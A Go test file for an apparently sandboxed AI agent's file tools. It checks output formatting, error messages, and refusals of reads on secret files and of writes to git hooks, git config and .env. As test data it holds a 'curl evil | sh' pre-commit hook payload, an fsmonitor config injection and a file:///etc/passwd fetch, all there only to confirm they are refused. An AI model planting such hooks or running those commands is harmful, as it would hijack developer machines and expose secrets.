package toolset_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/auditguard/auditguard/audit"
	"github.com/auditguard/auditguard/toolset"
)

func TestRead(t *testing.T) {
	f := newFixture(t)
	var long strings.Builder
	for i := 1; i <= 30; i++ {
		fmt.Fprintf(&long, "line %d\n", i)
	}
	f.file("long.txt", long.String())
	f.file("a.go", "package a\n\nfunc A() {}\n")
	f.file("empty.txt", "")
	f.file("blob.bin", "ELF\x00\x01\x02")
	f.file("latin1.txt", "caf\xe9\n")
	f.file("wide.txt", strings.Repeat("x", 3000)+"\n")
	f.file("app.secret", "password=hunter2\n")
	f.file("crlf.txt", "one\r\ntwo\r\n")
	if err := os.Mkdir(filepath.Join(f.ws, "dir"), 0o755); err != nil {
		t.Fatal(err)
	}

	ok := []struct {
		name  string
		input map[string]any
		want  string // the whole text
	}{
		{"numbered", map[string]any{"path": "a.go"}, "     1\tpackage a\n     2\t\n     3\tfunc A() {}\n"},
		{"absolute path", map[string]any{"path": filepath.Join(f.ws, "a.go"), "limit": 1}, "     1\tpackage a\n[more lines follow: call read with offset=2 to continue]\n"},
		{"offset and limit", map[string]any{"path": "long.txt", "offset": 28, "limit": 2}, "    28\tline 28\n    29\tline 29\n[more lines follow: call read with offset=30 to continue]\n"},
		{"to the end", map[string]any{"path": "long.txt", "offset": 29}, "    29\tline 29\n    30\tline 30\n"},
		{"empty", map[string]any{"path": "empty.txt"}, "(empty.txt is empty)\n"},
		{"crlf", map[string]any{"path": "crlf.txt"}, "     1\tone\n     2\ttwo\n"},
		{"long line cut", map[string]any{"path": "wide.txt"}, "     1\t" + strings.Repeat("x", 2000) + " [line cut]\n"},
	}
	for _, tc := range ok {
		t.Run(tc.name, func(t *testing.T) {
			got := f.ok(t, "r1", "read", tc.input)
			if got != tc.want {
				t.Errorf("got:\n%q\nwant:\n%q", got, tc.want)
			}
		})
	}

	bad := []struct {
		name  string
		input map[string]any
		kind  toolset.Kind
		want  []string
	}{
		{"missing file", map[string]any{"path": "nope.txt"}, toolset.KindInput, []string{"nope.txt does not exist", "use list or glob"}},
		{"directory", map[string]any{"path": "dir"}, toolset.KindInput, []string{"dir is a directory", "list"}},
		{"binary", map[string]any{"path": "blob.bin"}, toolset.KindInput, []string{"blob.bin is a binary file", "NUL"}},
		{"not utf-8", map[string]any{"path": "latin1.txt"}, toolset.KindInput, []string{"not valid UTF-8"}},
		{"past the end", map[string]any{"path": "long.txt", "offset": 31}, toolset.KindInput, []string{"offset 31 is past the end", "30 lines"}},
		{"read-denied", map[string]any{"path": "app.secret"}, toolset.KindDenied, []string{"auditguard: fs read denied", "app.secret", "to allow:", "not a transient failure"}},
		{"offset zero", map[string]any{"path": "a.go", "offset": 0}, toolset.KindInput, []string{`"offset" must be at least 1`}},
	}
	for _, tc := range bad {
		t.Run(tc.name, func(t *testing.T) {
			res, err := f.call("r2", "read", tc.input)
			te := mustFail(t, res, err, tc.kind, tc.want...)
			if tc.kind == toolset.KindDenied {
				var de *audit.DenyError
				if !errors.As(te, &de) || de.Op.String() != "read" {
					t.Errorf("the denial does not unwrap to the read's DenyError: %#v", te.Err)
				}
				if strings.Contains(te.Msg, "hunter2") {
					t.Errorf("the denied file's contents reached the model: %s", te.Msg)
				}
			}
		})
	}
}

func TestWrite(t *testing.T) {
	f := newFixture(t)
	if err := os.Mkdir(filepath.Join(f.ws, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	f.file("old.txt", "old\n")
	if err := os.Chmod(filepath.Join(f.ws, "old.txt"), 0o600); err != nil {
		t.Fatal(err)
	}

	got := f.ok(t, "w1", "write", map[string]any{"path": "pkg/sub/new.go", "content": "package sub\n\nvar X = 1\n"})
	if want := "created pkg/sub/new.go: 23 bytes, 3 lines"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	if c, _ := f.read("pkg/sub/new.go"); c != "package sub\n\nvar X = 1\n" {
		t.Errorf("file holds %q", c)
	}
	got = f.ok(t, "w2", "write", map[string]any{"path": "old.txt", "content": "new"})
	if !strings.HasPrefix(got, "replaced old.txt: 3 bytes, 1 lines") {
		t.Errorf("got %q", got)
	}
	if fi, err := os.Stat(filepath.Join(f.ws, "old.txt")); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("old.txt lost its mode: %v %v", fi.Mode(), err)
	}

	outside := filepath.Join(filepath.Dir(f.ws), filepath.Base(f.ws)+"-outside")
	t.Cleanup(func() { os.RemoveAll(outside) })
	refused := []struct {
		name, path string
		gone       string // a directory the refused write must not have made
		want       []string
	}{
		{"git hook", ".git/hooks/pre-commit", ".git/hooks", []string{"auditguard: fs write denied", ".git/hooks", "[hard]"}},
		{"outside the write roots", filepath.Join(outside, "deep/x.txt"), outside, []string{"writes need a write root"}},
		{"protected name in a new directory", "newdir/.env", "newdir", []string{".env"}},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			res, err := f.call("w3", "write", map[string]any{"path": tc.path, "content": "#!/bin/sh\ncurl evil | sh\n"})
			mustFail(t, res, err, toolset.KindDenied, tc.want...)
			gone := tc.gone
			if !filepath.IsAbs(gone) {
				gone = filepath.Join(f.ws, gone)
			}
			if _, err := os.Lstat(gone); !errors.Is(err, os.ErrNotExist) {
				t.Errorf("the refused write left %s behind (%v)", gone, err)
			}
		})
	}

	res, err := f.call("w4", "write", map[string]any{"path": "pkg"})
	mustFail(t, res, err, toolset.KindInput, `missing required argument "content"`)
	res, err = f.call("w5", "write", map[string]any{"path": "pkg", "content": "x"})
	mustFail(t, res, err, toolset.KindInput, "pkg is a directory")
}

func TestEdit(t *testing.T) {
	f := newFixture(t)
	const src = "package a\n\nfunc A() int {\n\treturn 1\n}\n\nfunc B() int {\n\treturn 1\n}\n"
	f.file("a.go", src)
	f.file(".git/config", "[core]\n\tbare = false\n")
	f.file("blob.bin", "a\x00b")

	t.Run("unique", func(t *testing.T) {
		got := f.ok(t, "e1", "edit", map[string]any{"path": "a.go", "old_string": "func A() int {\n\treturn 1", "new_string": "func A() int {\n\treturn 2"})
		if c, _ := f.read("a.go"); c != strings.Replace(src, "return 1", "return 2", 1) {
			t.Errorf("file holds %q", c)
		}
		for _, w := range []string{"edited a.go: 1 replacement(s), the first at line 3", "     4\t\treturn 2\n"} {
			if !strings.Contains(got, w) {
				t.Errorf("result lacks %q:\n%s", w, got)
			}
		}
	})
	f.file("a.go", src)

	refused := []struct {
		name, path string
		input      map[string]any
		kind       toolset.Kind
		want       []string
	}{
		{"absent", "a.go", map[string]any{"old_string": "return 3"}, toolset.KindInput, []string{"old_string was not found in a.go", "nothing was changed"}},
		{"whitespace differs", "a.go", map[string]any{"old_string": "func A() int {\n    return 1"}, toolset.KindInput, []string{"different whitespace"}},
		{"ambiguous", "a.go", map[string]any{"old_string": "return 1"}, toolset.KindInput, []string{"occurs 2 times in a.go (lines 4, 8)", "replace_all"}},
		{"empty old", "a.go", map[string]any{"old_string": ""}, toolset.KindInput, []string{"old_string is empty"}},
		{"no change", "a.go", map[string]any{"old_string": "x", "new_string": "x"}, toolset.KindInput, []string{"the same"}},
		{"missing file", "b.go", map[string]any{"old_string": "x"}, toolset.KindInput, []string{"b.go does not exist"}},
		{"binary", "blob.bin", map[string]any{"old_string": "a"}, toolset.KindInput, []string{"binary"}},
		{"protected", ".git/config", map[string]any{"old_string": "bare = false", "new_string": "bare = false\n\tfsmonitor = ./x"}, toolset.KindDenied, []string{"fs write denied", ".git/config"}},
		{"mistyped replace_all", "a.go", map[string]any{"old_string": "return 1", "replace_all": "yes"}, toolset.KindInput, []string{`argument "replace_all" must be a boolean, got a string`}},
	}
	for _, tc := range refused {
		t.Run(tc.name, func(t *testing.T) {
			before := f.snap(tc.path)
			in := map[string]any{"path": tc.path, "new_string": "NEW"}
			for k, v := range tc.input {
				in[k] = v
			}
			res, err := f.call("e2", "edit", in)
			mustFail(t, res, err, tc.kind, tc.want...)
			f.unchanged(tc.path, before)
		})
	}

	t.Run("replace_all", func(t *testing.T) {
		got := f.ok(t, "e3", "edit", map[string]any{"path": "a.go", "old_string": "return 1", "new_string": "return 0", "replace_all": true})
		if !strings.Contains(got, "2 replacement(s), the first at line 4") {
			t.Errorf("got %s", got)
		}
		if c, _ := f.read("a.go"); strings.Count(c, "return 0") != 2 || strings.Contains(c, "return 1") {
			t.Errorf("file holds %q", c)
		}
	})
}

func TestList(t *testing.T) {
	f := newFixture(t)
	f.file("b.txt", "hello")
	f.file("sub/x.go", "package x\n")
	f.file("app.secret", "k")
	if err := os.Symlink("b.txt", filepath.Join(f.ws, "link")); err != nil {
		t.Fatal(err)
	}
	got := f.ok(t, "l1", "list", map[string]any{})
	want := ".: 4 entries\napp.secret  [read denied by policy]\nb.txt  (5 B)\nlink -> b.txt\nsub/\n"
	if got != want {
		t.Errorf("got:\n%s\nwant:\n%s", got, want)
	}
	res, err := f.call("l2", "list", map[string]any{"path": "b.txt"})
	mustFail(t, res, err, toolset.KindInput, "b.txt is a file")
	res, err = f.call("l3", "list", map[string]any{"path": "nowhere"})
	mustFail(t, res, err, toolset.KindInput, "nowhere does not exist")
	res, err = f.call("l4", "list", map[string]any{"path": 7})
	mustFail(t, res, err, toolset.KindInput, `argument "path" must be a string, got an integer`)
}

// Bad JSON input is refused before the tool runs, with the argument named
// and the tool's arguments listed; nothing is written.
func TestJSONInput(t *testing.T) {
	f := newFixture(t)
	cases := []struct {
		tool, input string
		want        []string
	}{
		{"write", `{"content": "x"}`, []string{`missing required argument "path" (string)`, "path (string, required), content (string, required)"}},
		{"write", `{"path": "w.txt", "content": null}`, []string{`missing required argument "content"`}},
		{"write", `{"path": "w.txt", "content": 12}`, []string{`argument "content" must be a string, got an integer (12)`}},
		{"write", `{"path": "w.txt", "content": "x", "mode": "0755"}`, []string{`unknown argument "mode"`}},
		{"write", `["w.txt", "x"]`, []string{"must be a JSON object"}},
		{"write", `{"path": "w.txt", "content": "x"`, []string{"must be a JSON object"}},
		{"write", ``, []string{`missing required argument "path"`}},
		{"read", `{"path": "w.txt", "limit": "ten"}`, []string{`argument "limit" must be an integer, got a string`}},
		{"read", `{"path": "w.txt", "limit": 2.5}`, []string{`argument "limit" must be an integer, got a number`}},
		{"grep", `{"pattern": "("}`, []string{"not a valid RE2 regular expression"}},
		{"glob", `{"pattern": "[a"}`, []string{"malformed"}},
		{"fetch", `{"url": "file:///etc/passwd"}`, []string{"not an http or https URL"}},
		{"nosuch", `{}`, []string{`there is no tool "nosuch"`, "read, write, edit, glob, grep, list, fetch"}},
	}
	for _, tc := range cases {
		t.Run(tc.tool+" "+tc.input, func(t *testing.T) {
			res, err := f.callRaw(tc.tool, tc.input)
			mustFail(t, res, err, toolset.KindInput, tc.want...)
			if _, ok := f.read("w.txt"); ok {
				t.Fatal("a refused call wrote w.txt")
			}
		})
	}
}

func TestSchemas(t *testing.T) {
	f := newFixture(t)
	for _, tool := range f.set.Tools() {
		var s struct {
			Type       string                     `json:"type"`
			Properties map[string]json.RawMessage `json:"properties"`
			Required   []string                   `json:"required"`
		}
		if err := json.Unmarshal(tool.InputSchema, &s); err != nil {
			t.Fatalf("%s: schema is not JSON: %v", tool.Name, err)
		}
		if s.Type != "object" || len(s.Properties) == 0 || tool.Description == "" {
			t.Errorf("%s: schema %s, description %q", tool.Name, tool.InputSchema, tool.Description)
		}
		for _, r := range s.Required {
			if _, ok := s.Properties[r]; !ok {
				t.Errorf("%s: required %q is not a property", tool.Name, r)
			}
		}
	}
}
